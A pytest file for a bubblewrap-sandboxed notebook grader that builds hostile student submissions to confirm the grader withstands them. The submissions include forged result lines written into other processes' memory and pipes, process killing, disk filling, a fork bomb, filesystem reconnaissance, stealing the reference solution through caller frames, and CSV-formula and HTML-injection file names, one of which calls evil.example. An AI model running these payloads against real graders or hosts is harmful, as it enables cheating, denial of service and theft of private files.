"""Attacks on the grader by its students, each a fabricated notebook with its expected points.

Every notebook here is the tiny sheet's solution (``tests/data/grading/sheets/01_tiny.md``:
area 2 + hidden 1, square 3, evens 1 = 7 points) with one hostile cell, graded in the
bubblewrap sandbox as root and, where the machine allows, by an ordinary user (``nobody``,
started with ``setpriv``; bubblewrap then uses a user namespace). Most attacks are written so
that they *change an answer when they succeed*: the notebook keeps its full marks only if
the attack failed, and loses exactly the points of the answer it spoiled otherwise (or wins
points it should not have). The expected totals are the sheet's points added by hand.

The class of attacks follows a red-team report on the grader: a function answer that reads
or writes the memory, pipes or files of the checks' process; forged result lines; formula
injection through file names and messages; symbolic links to the solution; filling the
disk; fork bombs; deeply nested data; reconnaissance of the lecturer's paths.
"""
from __future__ import annotations

import base64
import csv
import json
import os
import pwd
import shutil
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import grade
import make_exercises
import nbformat
import pytest
from _grading import sandbox, userns
from _notebooks import ROOT

SHEETS = ROOT / "tests" / "data" / "grading" / "sheets"
TINY = SHEETS / "01_tiny.md"
FULL, AREA, SQUARE, EVENS = 7, 2 + 1, 3, 1
LIMITS = sandbox.Limits(timeout=30, memory_mb=1024, grace=3)
CLASS_LIMITS = sandbox.Limits(timeout=120, memory_mb=1024, grace=3)  # the recon reads ~1 GB
FORMULA = ("=", "+", "-", "@", "\t", "\r")

pytestmark = pytest.mark.skipif(sandbox.bwrap_problem() is not None,
                                reason=f"no bubblewrap sandbox here: {sandbox.bwrap_problem()}")

# A function answer that attacks whoever calls it, then returns a wrong value (2x). Whatever
# it finds of the grader (the lecturer's checks, the checks' frames, their process) it raises
# as its error, which the check would show: "LOOT" must never reach a CSV or a page.
FORGED = ('{"results": [' + ", ".join(['{"passed": true, "message": "=2+3"}'] * 4) + ']}'
          '\\n{"value": {"t": "int", "v": "4"}, "id": 1}\\n')
ATTACK_FUNCTION = f'''
def square(x):
    import glob, os, signal, sys
    forged = b'{FORGED}'
    loot = []
    for name in ("_grading", "_grading.reference", "run_checks"):
        try:
            __import__(name)
            loot.append("imported " + name)
        except Exception:
            pass
    for pattern in ("/opt/lecturer/**/*.py", "/opt/*/reference/*.py", "/opt/*/_grading/*.py",
                    "/opt/*/*/reference/*.py", "/home/*/*.py", "/tmp/*/*.py"):
        for path in glob.glob(pattern, recursive=True)[:50]:
            try:
                loot.append(open(path).read()[:100])
            except Exception:
                pass
    frame = sys._getframe(1)
    while frame is not None:
        names = set(frame.f_globals) | set(frame.f_locals)
        loot += ["frame " + n for n in ("results", "job", "use_references", "grade_job")
                 if n in names]
        frame = frame.f_back
    for pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]:
        try:
            command = open(f"/proc/{{pid}}/cmdline", "rb").read()
        except OSError:
            continue
        if b"run_checks" in command or b"grade.py" in command or b"pytest" in command:
            loot.append("process " + command.decode(errors="replace")[:80])
        for what in ("mem", "fd/0", "fd/1", "fd/3"):
            try:
                with open(f"/proc/{{pid}}/{{what}}", "r+b") as target:
                    target.write(forged)
            except OSError:
                pass
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
    for fd in range(3, 64):
        try:
            os.write(fd, forged)
        except OSError:
            pass
    if loot:
        raise RuntimeError("LOOT " + " | ".join(loot))
    return 2 * x
'''

# cells added to the solution: each keeps the right answers only if the attack fails
FORGER = f'''
import os
for fd in range(0, 64):
    try:
        os.write(fd, b'{FORGED}' + b'{{"report": {{"errors": [[1, "=HYPERLINK(1)"]]}}}}\\n')
    except OSError:
        pass
evens = []
'''
DEEP = '''
import os
deep = b'{"answers": {"0": ' + b"[" * 300_000 + b"]" * 300_000 + b"}}\\n"
for fd in range(3, 64):
    try:
        os.write(fd, deep)
    except OSError:
        pass
'''
DISK = '''
import math, os
written, block = 0, b"x" * 2**24
for folder in (os.getcwd(), "/tmp"):
    for k in range(64):                  # up to 1 GiB in each
        try:
            with open(os.path.join(folder, f"fill{k}"), "wb") as f:
                for _ in range(4):
                    f.write(block)
                    f.flush()
                    written += len(block)
        except OSError:
            break
area = math.pi if written <= 2 * 300 * 2**20 else 0.0
'''
FORKS = '''
import math, os, time
children = []
for _ in range(300):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    children.append(pid)
area = math.pi if len(children) < 100 else 0.0
'''
# Reconnaissance: everything the notebook can read (the interpreter's own attributes, its
# environment, every readable file of every process in /proc, every file outside the host's
# system folders, which holds the Python installation, the packages and the staged grading
# files) searched for the lecturer's folders, raw, reversed, in hex and in base64 at the three
# alignments. The folders are written into the cell as numbers, so no text of it matches.
RECON_SCAN = """
import base64, math, os, stat, sys, sysconfig, site

def forms(raw):
    out = [raw, raw[::-1], raw.hex().encode(), raw.hex().upper().encode()]
    for k in range(3):  # the base64 characters that depend on the folder only, per alignment
        enc = base64.b64encode(b"\\0" * k + raw)
        core = enc[(0, 2, 3)[k]:len(enc) - (0 if (k + len(raw)) % 3 == 0 else 4)]
        out += [core] if len(core) >= 8 else []
    return out

patterns = [p for s in SECRETS for p in forms(bytes(s))]
control = forms(b"/opt/kmgrade")  # the staged scripts' folder: the search must find it
found, seen = [], []

def look(where, data):
    if any(p in data for p in patterns):
        found.append(where)
    if any(p in data for p in control):
        seen.append(where)

texts = [repr([getattr(sys, a, None) for a in ("prefix", "base_prefix", "exec_prefix",
              "base_exec_prefix", "executable", "_base_executable", "path", "argv",
              "orig_argv", "platlibdir", "pycache_prefix")]), repr(dict(os.environ)),
         repr(sysconfig.get_config_vars()), repr(site.getsitepackages()), os.getcwd(),
         repr([(n, getattr(m, "__file__", None), getattr(m, "__path__", None))
               for n, m in list(sys.modules.items())])]
for text in texts:
    look("interpreter", text.encode(errors="surrogateescape"))
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "thread-self"]:
    try:
        entries = os.listdir(f"/proc/{pid}")
    except OSError:
        continue
    for e in entries:
        if e in ("mem", "pagemap", "clear_refs", "task", "net"):
            continue
        path = f"/proc/{pid}/{e}"
        try:
            if os.path.islink(path):
                look(path, os.readlink(path).encode())
            elif os.path.isdir(path):
                for sub in os.listdir(path):
                    if os.path.islink(f"{path}/{sub}"):
                        look(path, os.readlink(f"{path}/{sub}").encode())
            else:
                with open(path, "rb") as f:
                    look(path, f.read(4 << 20))
        except OSError:
            pass
for path in ("/proc/mounts", "/proc/cmdline"):
    try:
        look(path, open(path, "rb").read())
    except OSError:
        pass
system = ("proc", "sys", "dev", "usr", "bin", "sbin", "lib", "lib32", "lib64", "libx32")
files = 0
for root in [r for r in os.listdir("/") if r not in system]:
    for dirpath, dirnames, filenames in os.walk("/" + root):
        look(dirpath, dirpath.encode(errors="surrogateescape"))
        for name in filenames + dirnames:
            path = os.path.join(dirpath, name)
            try:
                info = os.lstat(path)
                if stat.S_ISLNK(info.st_mode):
                    look(path, os.readlink(path).encode(errors="surrogateescape"))
                elif stat.S_ISREG(info.st_mode):
                    with open(path, "rb") as f:
                        look(path, f.read())
                    files += 1
            except OSError:
                pass
area = math.pi if not found and seen and files > 1000 else 0.0
"""


def lecturer_folders(extra: tuple[str, ...] = ()) -> list[str]:
    """The folders of this machine no sandbox may show: the repository, the environment, the
    Python installation, the home and temporary folders (unless the system's own: ``/root``,
    ``/tmp`` are words of many library texts), the class's folder (``extra``).
    A folder inside another is searched through the other."""
    found = {str(ROOT), os.path.realpath(ROOT), sys.prefix, os.path.realpath(sys.prefix),
             sys.base_prefix, os.path.realpath(sys.base_prefix), *extra}
    home, temp = os.path.expanduser("~"), tempfile.gettempdir()
    found |= {home} - {"/", "/root"}
    found |= {temp} - {"/tmp", "/var/tmp"}
    return sorted(f for f in found if not any(o != f and o in f for o in found))


def test_the_reconnaissance_finds_every_encoding():
    """The search of the recon notebook, on a text holding a folder in each encoding."""
    namespace: dict = {}
    exec(RECON_SCAN.split("patterns =")[0], namespace)
    secret = b"/home/lecturer/course"
    for pad in (b"", b"x", b"xy"):
        for encoded in (secret, secret[::-1], secret.hex().encode(), secret.hex().upper().encode(),
                        base64.b64encode(pad + secret + b"tail"), base64.b64encode(pad + secret)):
            data = b"before " + encoded + b" after"
            assert any(p in data for p in namespace["forms"](secret)), encoded
    assert not any(p in base64.b64encode(b"/home/lecturer/cours") for p in
                   namespace["forms"](secret))


def recon_cell(extra: tuple[str, ...]) -> str:
    secrets = [list(s.encode()) for s in lecturer_folders(extra)]
    return f"SECRETS = {secrets!r}\n" + RECON_SCAN


ATTACKS = {"function_attack": (ATTACK_FUNCTION, FULL - SQUARE),
           "forger": (FORGER, FULL - EVENS), "deep_json": (DEEP, FULL),
           "disk_fill": (DISK, FULL), "fork_bomb": (FORKS, FULL), "recon": (None, FULL)}
HOSTILE_NAMES = ["=2+3", '=WEBSERVICE("http:"&CHAR(47)&"evil.example"&A1)', "@SUM(9+9)",
                 "+1", "-1", "\tTAB", "<img src=x onerror=alert(1)>"]


def _read_csv(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def _totals(folder: Path) -> dict[str, float]:
    return {r["student"]: float(r["total"]) for r in _read_csv(folder / "summary.csv")}


def _with_cell(nb, marker: str, source: str):
    nb = nbformat.from_dict(nb)
    i = max(k for k, c in enumerate(nb.cells) if marker in c.source)
    nb.cells.insert(i + 1, nbformat.v4.new_code_cell(source))
    return nb


def _write_class(folder: Path) -> dict[str, float]:
    """The hostile class in ``folder``; returns the expected totals by student name."""
    generated = make_exercises.generate(folder.parent / "gen", [TINY])
    solution_path = generated[0][0]
    solution = nbformat.read(solution_path, as_version=4)
    expected = {}
    for name, (cell, points) in ATTACKS.items():
        cell = cell if cell is not None else recon_cell((str(folder.parent),))
        marker = "return x * x" if name == "function_attack" else "evens = list"
        nbformat.write(_with_cell(solution, marker, cell), folder / f"{name}.ipynb")
        expected[name] = points
    for name in HOSTILE_NAMES:
        nbformat.write(solution, folder / f"{name}.ipynb")
        expected["'" + name if name.startswith(FORMULA) else name] = FULL
    os.symlink(solution_path, folder / "mallory_link.ipynb")
    (folder / "folder.ipynb").mkdir()
    os.mkfifo(folder / "fifo.ipynb")
    (folder / "nested.ipynb").write_text("[" * 200_000 + "]" * 200_000)
    expected.update({"mallory_link": 0, "folder": 0, "fifo": 0, "nested": 0})
    return expected


def _check_outputs(folder: Path, expected: dict[str, float]) -> None:
    assert _totals(folder) == expected
    rows = _read_csv(folder / "grades.csv")
    for path in (folder / "grades.csv", folder / "summary.csv"):
        with path.open(encoding="utf-8", newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not [c for c in cells if c.startswith(FORMULA)], path.name
    skipped = {r["student"]: r["message"] for r in rows if r["check"] == "submission"}
    assert "symbolic link" in skipped["mallory_link"]
    assert "folder" in skipped["folder"] and "not a regular file" in skipped["fifo"]
    assert "not a Jupyter notebook" in skipped["nested"]
    everything = "".join(p.read_text(encoding="utf-8") for p in
                         [folder / "grades.csv", folder / "report.html",
                          *(folder / "feedback").iterdir()])
    assert "LOOT" not in everything and "HYPERLINK" not in everything
    pages = "".join(p.read_text(encoding="utf-8") for p in
                    [folder / "report.html", *(folder / "feedback").iterdir()])
    assert "<img src=x" not in pages  # the name is escaped in every page
    notes = {name: (folder / "feedback" / f"{name}.html").read_text(encoding="utf-8")
             for name in ("disk_fill", "fork_bomb")}
    assert "filled its private disk" in notes["disk_fill"]
    assert "limit of 64 processes" in notes["fork_bomb"]
    square = [r for r in rows if r["student"] == "function_attack" and r["passed"] == "no"]
    assert [r["exercise"] for r in square] == ["tiny-ex-square"]


def test_hostile_class_as_root(tmp_path):
    folder = tmp_path / "class"
    folder.mkdir()
    expected = _write_class(folder)
    grade.grade(folder, sheet_path=TINY, sheets_dir=SHEETS, limits=CLASS_LIMITS)
    _check_outputs(folder, expected)


def _as_nobody(*cmd: str) -> list[str]:
    return [shutil.which("setpriv"), "--reuid=65534", "--regid=65534", "--clear-groups",
            "--inh-caps=-all", *cmd]


def _python_for_nobody(top: Path) -> str:
    """A Python that ``nobody`` can run, with this environment's packages.

    When the installation is in a folder ``nobody`` cannot enter (``/root/.pyenv``), it is
    hard-linked (no copy of the data) into ``top`` and a virtual environment made there
    that reads the packages of this one. Raises OSError when that is impossible.
    """
    base, version = Path(os.path.realpath(sys.base_prefix)), f"python{sys.version_info[0]}." \
        f"{sys.version_info[1]}"
    probe = subprocess.run(_as_nobody(sys.executable, "-c", f"import os, numpy; os.listdir("
                                      f"{str(base)!r})"), capture_output=True)
    if probe.returncode == 0:
        return sys.executable
    python = top / "python"
    shutil.copytree(base, python, copy_function=os.link, symlinks=True,
                    ignore=shutil.ignore_patterns("site-packages", "__pycache__", "test"))
    venv = top / "venv"
    (venv / "bin").mkdir(parents=True)
    (venv / "lib" / version).mkdir(parents=True)
    real = os.path.realpath(sys.executable)
    os.symlink(str(python) + real[len(str(base)):], venv / "bin" / "python3")
    (venv / "pyvenv.cfg").write_text(f"home = {python}/bin\ninclude-system-site-packages = "
                                     "false\n")
    site = [p for p in sys.path if p.endswith("site-packages") and p.startswith(sys.prefix)][0]
    os.symlink(site, venv / "lib" / version / "site-packages")
    return str(venv / "bin" / "python3")


def _ordinary_user_problem() -> str | None:
    if os.geteuid() != 0:
        return "already an ordinary user: the tests above covered this mode"
    if shutil.which("setpriv") is None:
        return "setpriv is missing"
    probe = subprocess.run(_as_nobody(shutil.which("bwrap"), "--ro-bind", "/", "/",
                                      "--unshare-user", "true"), capture_output=True)
    return None if probe.returncode == 0 else "no unprivileged user namespaces here"


def _subordinate_ids_problem() -> str | None:
    """Why ``nobody`` cannot grade with subordinate ids here (what ``userns.problem`` checks)."""
    for tool in ("newuidmap", "newgidmap"):
        if shutil.which(tool) is None:
            return f"{tool} is not installed (apt-get install uidmap)"
    nobody = pwd.getpwnam("nobody")
    for path in (userns.SUBUID, userns.SUBGID):
        if userns._first(path, nobody) is None:
            return (f"{path} grants nobody no subordinate ids (usermod --add-subuids "
                    "200000-265535 --add-subgids 200000-265535 nobody)")
    return None


class HostUids:
    """The host user ids of the sandboxes' Python processes, seen in the host's ``/proc``
    while the grader runs: the student's notebook and function answers, and the checks.
    bubblewrap and setpriv, whose command lines also name the script, are left out."""

    KINDS = {b"run_student.py": "student", b"run_function.py": "student",
             b"run_checks.py": "checks"}

    def __init__(self):
        self.seen: dict[str, set[int]] = {"student": set(), "checks": set()}
        self.done = threading.Event()
        self.thread = threading.Thread(target=self._watch, daemon=True)

    def _watch(self):
        while not self.done.wait(0.05):
            for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
                try:
                    with open(f"/proc/{pid}/cmdline", "rb") as f:
                        argv = f.read().split(b"\0")
                    kind = next((k for s, k in self.KINDS.items()
                                 if any(a.endswith(b"/" + s) for a in argv)), None)
                    if kind is None or not os.path.basename(argv[0]).startswith(b"python"):
                        continue
                    with open(f"/proc/{pid}/status", encoding="ascii") as f:
                        uids = next(r.split()[1:3] for r in f if r.startswith("Uid:"))
                    self.seen[kind] |= {int(u) for u in uids}
                except (OSError, StopIteration):
                    continue

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.done.set()
        self.thread.join()


@pytest.fixture(scope="module")
def nobody_home():
    """A folder of ``nobody``'s with a Python it can run; its relocated Python is removed."""
    readable = subprocess.run(_as_nobody("test", "-r", str(ROOT / "scripts" / "grade.py")))
    if readable.returncode != 0:
        pytest.skip(f"an ordinary user cannot read this checkout ({ROOT} is in a private "
                    "folder); clone the repository where other users can read it to test "
                    "this mode")
    top = Path(tempfile.mkdtemp(prefix="kmgrade-user-test-"))
    try:
        os.chmod(top, 0o755)
        os.lchown(top, 65534, 65534)  # before the Python's hard links: never chown those
        try:
            python = _python_for_nobody(top)
        except OSError as exc:
            pytest.skip(f"no Python that an ordinary user can run here ({exc})")
        env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": str(top),
               "MPLCONFIGDIR": str(top / ".mpl"), "TMPDIR": str(top), "LANG": "C.UTF-8"}
        if (top / "python" / "lib").is_dir():  # its own libpython, not the system's
            env["LD_LIBRARY_PATH"] = str(top / "python" / "lib")
        yield top, python, env
    finally:
        index = top / ".cache" / "kmgrade" / "runtime.json"  # nobody's relocated Python
        if index.is_file():
            built = Path(json.loads(index.read_text(encoding="utf-8"))["path"])
            if built.name.startswith("kmgrade-runtime-") and built.owner() == "nobody":
                shutil.rmtree(built, ignore_errors=True)
        shutil.rmtree(top, ignore_errors=True)


@pytest.mark.skipif(_ordinary_user_problem() is not None,
                    reason=f"cannot grade as an ordinary user: {_ordinary_user_problem()}")
@pytest.mark.parametrize("ids", ["subordinate", "own"])
def test_hostile_class_as_an_ordinary_user(nobody_home, ids):
    """The same class graded by ``nobody`` with ``scripts/grade.py``, in its two modes.

    ``subordinate``: with subordinate ids (``/etc/subuid``, ``newuidmap``) the grader runs as
    root of a user namespace over them, and the host sees every student sandbox's processes
    under an id of nobody's subordinate range that is neither nobody's nor the checks'.
    ``own`` (``KMGRADE_SUBORDINATE_IDS=0``, as where no subordinate ids exist): every sandbox
    runs under nobody's own id, each in a user namespace of its own. The marks are the same.
    """
    if ids == "subordinate" and _subordinate_ids_problem() is not None:
        pytest.skip(f"no subordinate ids for nobody: {_subordinate_ids_problem()}")
    top, python, env = nobody_home
    folder = top / f"class-{ids}"
    folder.mkdir()
    expected = _write_class(folder)
    for path in (folder, *folder.rglob("*"), *(top / "gen").rglob("*"), top / "gen"):
        os.lchown(path, 65534, 65534)
    if ids == "own":
        env = dict(env, **{userns.SWITCH: "0"})
    with HostUids() as watch:
        done = subprocess.run(_as_nobody(python, str(ROOT / "scripts" / "grade.py"),
                                         str(folder), "--sheet", str(TINY), "--sheets-dir",
                                         str(SHEETS), "--timeout", str(CLASS_LIMITS.timeout),
                                         "--memory-mb", str(CLASS_LIMITS.memory_mb)),
                              env=env, cwd=top, capture_output=True, text=True, timeout=900)
    assert done.returncode == 0, done.stderr[-2000:]
    _check_outputs(folder, expected)
    students, checks = watch.seen["student"], watch.seen["checks"]
    assert students and checks, watch.seen
    mode = [line for line in done.stdout.splitlines() if line.startswith("sandbox: ")]
    print(f"{mode}\nhost user ids: student sandboxes {sorted(students)}, checks "
          f"{sorted(checks)}")
    if ids == "subordinate":
        start, count = userns._first(userns.SUBUID, pwd.getpwnam("nobody"))
        assert mode and mode[0].startswith("sandbox: subordinate user ids"), done.stdout
        assert 65534 not in students | checks
        assert not students & checks
        assert all(start <= uid < start + count for uid in students | checks)
        assert len(students) > len(ATTACKS)  # a fresh id for each sandbox
    else:
        assert mode == ["sandbox: ordinary user: every sandbox runs under your own user id "
                        "65534, in a user namespace of its own (no subordinate ids: switched "
                        "off (KMGRADE_SUBORDINATE_IDS=0))"], done.stdout
        assert students == checks == {65534}


def test_sandbox_ids_come_from_the_namespace_map(monkeypatch):
    """Root of the host: ids no account has. Root of a namespace over subordinate ids: ids of
    its map, never 0 (the grader) nor 65534, each sandbox of a run a different one."""
    monkeypatch.setattr(userns, "uid_map", lambda: [(0, 1000, 1), (1, 200000, 65536)])
    monkeypatch.setattr(sandbox.userns, "uid_map", userns.uid_map)
    monkeypatch.setattr(sandbox, "_uid_next", [])
    sandbox._uid_pool.cache_clear()
    try:
        assert sandbox._uid_pool() == ((1, 65536),)
        ids = [sandbox._fresh_uid() for _ in range(70_000)]
        assert all(1 <= uid <= 65536 and uid != 65534 for uid in ids)
        assert len(set(ids[:65535])) == 65535  # distinct until the pool wraps around
    finally:
        monkeypatch.undo()
        sandbox._uid_pool.cache_clear()
    if userns.uid_map() == [userns.IDENTITY]:
        assert sandbox.FREE_UIDS[0] <= sandbox._fresh_uid() < sandbox.FREE_UIDS[1]


@pytest.mark.skipif(_ordinary_user_problem() is not None,
                    reason=f"cannot grade as an ordinary user: {_ordinary_user_problem()}")
def test_without_subordinate_ids_the_grader_says_why(nobody_home):
    """``nobody`` under no_new_privs (where the setuid newuidmap cannot work): the grader
    grades in the namespace-only mode and its first line says so and why; when newuidmap
    is tried all the same, its failure is reported, before anything ran in the namespace."""
    top, python, env = nobody_home
    (top / "empty").mkdir(exist_ok=True)
    os.lchown(top / "empty", 65534, 65534)
    nnp = [*_as_nobody(python)[:-1], "--no-new-privs", python]
    done = subprocess.run([*nnp, str(ROOT / "scripts" / "grade.py"), str(top / "empty"),
                           "--sheet", str(TINY), "--sheets-dir", str(SHEETS)],
                          env=env, cwd=top, capture_output=True, text=True, timeout=600)
    assert done.stdout.splitlines()[0] == (
        "sandbox: ordinary user: every sandbox runs under your own user id 65534, in a user "
        "namespace of its own (no subordinate ids: this process may not gain privileges "
        "(no_new_privs), so the setuid newuidmap cannot work)"), done.stdout + done.stderr
    assert done.returncode == 0 and "graded 0 submissions" in done.stdout, done.stderr
    if _subordinate_ids_problem() is None:
        tried = subprocess.run(
            [*nnp, "-c", "import sys; sys.path.insert(0, sys.argv[1]); import userns\n"
             "userns.problem = lambda: None\n"
             "try:\n    userns.run_inside(['/bin/true'])\n"
             "except userns.Unavailable as exc:\n    print(exc)\n",
             str(ROOT / "scripts" / "_grading")],
            env=env, cwd=top, capture_output=True, text=True, timeout=60)
        assert tried.stdout.startswith("newuidmap failed: "), tried.stdout + tried.stderr


def test_a_function_answer_cannot_reach_the_reference(tmp_path):
    """Sheet 4 (seven checks of 1 point): ``matern32``/``matern52`` look for the lecturer's
    Matérn function (importing ``_grading.reference.ch04``, walking the callers' frames) and
    return it if found, else a wrong kernel: only ``check_matern`` fails, 6 of 7."""
    sheet = ROOT / "exercises" / "04_kernels.md"
    (sol_path, _), = make_exercises.generate(tmp_path / "gen", [sheet])
    solution = nbformat.read(sol_path, as_version=4)
    thief = '''
def _steal(r, nu, ell):
    import sys
    try:
        from _grading.reference import ch04 as ref
        return ref._matern_bessel(r, nu, ell)
    except Exception:
        pass
    frame = sys._getframe(1)
    while frame is not None:
        for space in (frame.f_locals, frame.f_globals):
            for value in list(space.values()):
                if callable(value) and "bessel" in getattr(value, "__name__", ""):
                    return value(r, nu, ell)
        frame = frame.f_back
    import numpy
    return numpy.exp(-numpy.asarray(r, dtype=float) / ell)

def matern32(r, ell):
    return _steal(r, 1.5, ell)

def matern52(r, ell):
    return _steal(r, 2.5, ell)
'''
    nb = _with_cell(solution, "min_eig_52 = np.linalg.eigvalsh", thief)
    folder = tmp_path / "class"
    folder.mkdir()
    nbformat.write(nb, folder / "thief.ipynb")
    grade.grade(folder, limits=sandbox.Limits(timeout=120, memory_mb=2048, grace=5))
    rows = _read_csv(folder / "grades.csv")
    assert [r["check"] for r in rows if r["passed"] == "no"] == ["check_matern"]
    assert _totals(folder) == {"thief": 6}


def test_the_grader_reads_untrusted_json_safely():
    """A size and depth check before parsing: 300,000 nested brackets raise DataError, not a
    RecursionError that would end the grader; ordinary answers pass."""
    from _grading import codec

    with pytest.raises(codec.DataError):
        codec.loads("[" * 300_000 + "]" * 300_000)
    with pytest.raises(codec.DataError):
        codec.loads('"' + "x" * 100 + '"', max_bytes=50)
    assert codec.loads('{"a": "[[[[", "b": [[1]]}') == {"a": "[[[[", "b": [[1]]}
    assert codec.json_depth('{"a": "[[[[", "b": [[1]]}') == 3
    assert codec.json_depth(r'{"a": "[[\"[[", "b": "x\\", "c": [[1]]}') == 3


def test_csv_cells_are_escaped_and_results_only_in_the_expected_form():
    """The OWASP rule, and the grader's acceptance of the checks' results."""
    from _grading import report

    assert [report.cell(x) for x in ("=1+2", "+1", "-1", "@A1", "\tx", "\rx", "alice", "")] == [
        "'=1+2", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "alice", ""]
    good = [{"passed": True, "message": "Correct: " + "x" * 500}]
    assert sandbox.accepted(good, 1)[0]["message"] == ("Correct: " + "x" * 500)[:300]
    for bad in (None, [], [{"passed": "yes", "message": "m"}], [{"passed": True}],
                [{"passed": True, "message": "m"}] * 2, "fatal"):
        out = sandbox.accepted(bad, 1)
        assert out[0]["passed"] is False and "could not run" in out[0]["message"]


def test_the_checks_process_is_not_dumpable():
    """``run_checks.not_dumpable`` (called first in the checks' process): afterwards
    ``prctl(PR_GET_DUMPABLE)`` is 0, so no process of the same user may read its memory
    through ``/proc/<pid>/mem`` or attach to it."""
    code = ("import ctypes, sys\n"
            f"sys.path.insert(0, {str(ROOT / 'scripts' / '_grading')!r})\n"
            "import run_checks\n"
            "libc = ctypes.CDLL(None)\n"
            "before = libc.prctl(3, 0, 0, 0, 0)\n"
            "run_checks.not_dumpable()\n"
            "print(before, libc.prctl(3, 0, 0, 0, 0))\n")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          timeout=120)
    assert done.stdout.split() == ["1", "0"], done.stderr


# A function answer that, at its first call, points its process's standard input at a pipe
# of its own and keeps the grader's pipe open unread; its global ``BIG`` makes each later
# call's message larger than a pipe holds, so a blocking write to it would never return.
STALLER = '''
BIG = "x" * 200_000
def square(x):
    import os
    if len(BIG) and not hasattr(os, "_kept"):
        os._kept = (os.dup(0), os.pipe())
        os.dup2(os._kept[1][0], 0)
    return x * x
'''


def test_a_function_that_stops_reading_cannot_stall_the_grader(tmp_path):
    """The grader writes to every sandbox under a deadline: a process that keeps its input
    open and never reads it gets a ``False`` from :meth:`sandbox.Proc.write` when the
    deadline passes, not a write that never returns. The staller itself gains nothing: the
    calls of its check share a sandbox, so its trick of the first call stalls the next ones,
    which time out and fail that check only, while the honest notebook graded after it keeps
    full marks; a blocking write (as before) hung the whole run."""
    import time

    idle = object.__new__(sandbox.Proc)
    idle.popen = subprocess.Popen(["sleep", "60"], stdin=subprocess.PIPE)
    try:
        start = time.monotonic()
        assert idle.write(b"x" * 2**20, time.monotonic() + 1) is False
        assert time.monotonic() - start < 10
    finally:
        idle.popen.kill()
        idle.popen.wait()
        idle.popen.stdin.close()
    (sol_path, _), = make_exercises.generate(tmp_path / "gen", [TINY])
    solution = nbformat.read(sol_path, as_version=4)
    folder = tmp_path / "class"
    folder.mkdir()
    nbformat.write(_with_cell(solution, "return x * x", STALLER), folder / "staller.ipynb")
    nbformat.write(solution, folder / "zoe.ipynb")
    done = subprocess.run([sys.executable, str(ROOT / "scripts" / "grade.py"), str(folder),
                           "--sheet", str(TINY), "--sheets-dir", str(SHEETS),
                           "--timeout", str(LIMITS.timeout)],
                          capture_output=True, text=True, timeout=sandbox.FUNCTION_SECONDS * 4
                          + 3 * LIMITS.timeout)
    assert done.returncode == 0, done.stderr[-2000:]
    assert _totals(folder) == {"staller": FULL - SQUARE, "zoe": FULL}


# A function answer that leaves a process running when it returns, and returns a wrong
# value when a later call finds that process alive (the same sandbox serving two calls).
LINGER = '''
def square(x):
    import os, time
    mark = "/tmp/lingering"
    if os.path.exists(mark):
        try:
            os.kill(int(open(mark).read()), 0)
            return -1
        except OSError:
            pass
    child = os.fork()
    if child == 0:
        time.sleep(120)
        os._exit(0)
    open(mark, "w").write(str(child))
    return x * x
'''


def test_nothing_of_a_function_call_outlives_its_check(tmp_path):
    """The calls of one check share a fresh sandbox, killed when the check ends: the process
    ``square`` leaves behind is still there at the check's next call (so ``square`` turns
    wrong, as it would in the notebook), and no process of any function sandbox outlives
    the grading."""
    (sol_path, _), = make_exercises.generate(tmp_path / "gen", [TINY])
    solution = nbformat.read(sol_path, as_version=4)
    folder = tmp_path / "class"
    folder.mkdir()
    nbformat.write(_with_cell(solution, "return x * x", LINGER), folder / "linger.ipynb")
    grade.grade(folder, sheet_path=TINY, sheets_dir=SHEETS, limits=LIMITS)
    assert _totals(folder) == {"linger": FULL - SQUARE}
    left = []
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                left += [pid] if b"run_function.py" in f.read() else []
        except OSError:
            pass
    assert not left


def test_file_names_cannot_make_two_students_share_a_name(tmp_path):
    """``bob.txt`` makes ``bob.ipynb`` be named by its file name, "bob.ipynb", which is also
    the stem of ``bob.ipynb.ipynb``: every submission still gets a name of its own (its own
    rows and its own feedback page), so no one's page or rows are taken by another's."""
    (sol_path, _), = make_exercises.generate(tmp_path / "gen", [TINY])
    solution = nbformat.read(sol_path, as_version=4)
    folder = tmp_path / "class"
    folder.mkdir()
    nbformat.write(solution, folder / "bob.ipynb")
    (folder / "bob.txt").write_text("not a notebook")
    wrong = nbformat.from_dict(solution)
    wrong.cells = [c for c in wrong.cells if "evens = list" not in c.source]
    nbformat.write(wrong, folder / "bob.ipynb.ipynb")
    results = grade.grade(folder, sheet_path=TINY, sheets_dir=SHEETS, limits=LIMITS)
    names = [r.student for r in results]
    assert len(set(names)) == 3, names
    assert len(list((folder / "feedback").iterdir())) == 3
    assert sorted(_totals(folder).values()) == [0, FULL - EVENS, FULL]


# A line of answers that costs the grader far more memory parsed than its size: 3 million
# empty ``{}`` (9 MB of text, some 200 MB of dicts in the grader's process; the 256 MB a
# notebook may send would be gigabytes). Sent before the first check cell, it would take
# the place of the notebook's answers for check 0 (the first answers of a check count).
SWELL = '''
import os
line = b'{"answers": {"0": {"junk": {"t": "list", "v": [' + b"{}," * 3_000_000 + b'{}]}}}}\\n'
for fd in range(3, 64):
    try:
        os.write(fd, line)
    except OSError:
        pass
'''


def test_answers_that_swell_when_parsed_are_refused(tmp_path):
    """The grader counts the JSON values of a line before parsing it and refuses more than
    :data:`sandbox.MAX_LINE_VALUES` (and more than :data:`sandbox.MAX_ANSWER_VALUES` in a
    notebook's answers): the swollen line is dropped and the notebook keeps full marks."""
    from _grading import codec

    swollen = b'{"answers": {"0": {"x": [' + b"{}," * (sandbox.MAX_LINE_VALUES + 1) + b"{}]}}}"
    assert codec.json_values(swollen) > sandbox.MAX_LINE_VALUES
    assert sandbox._message(swollen) is None
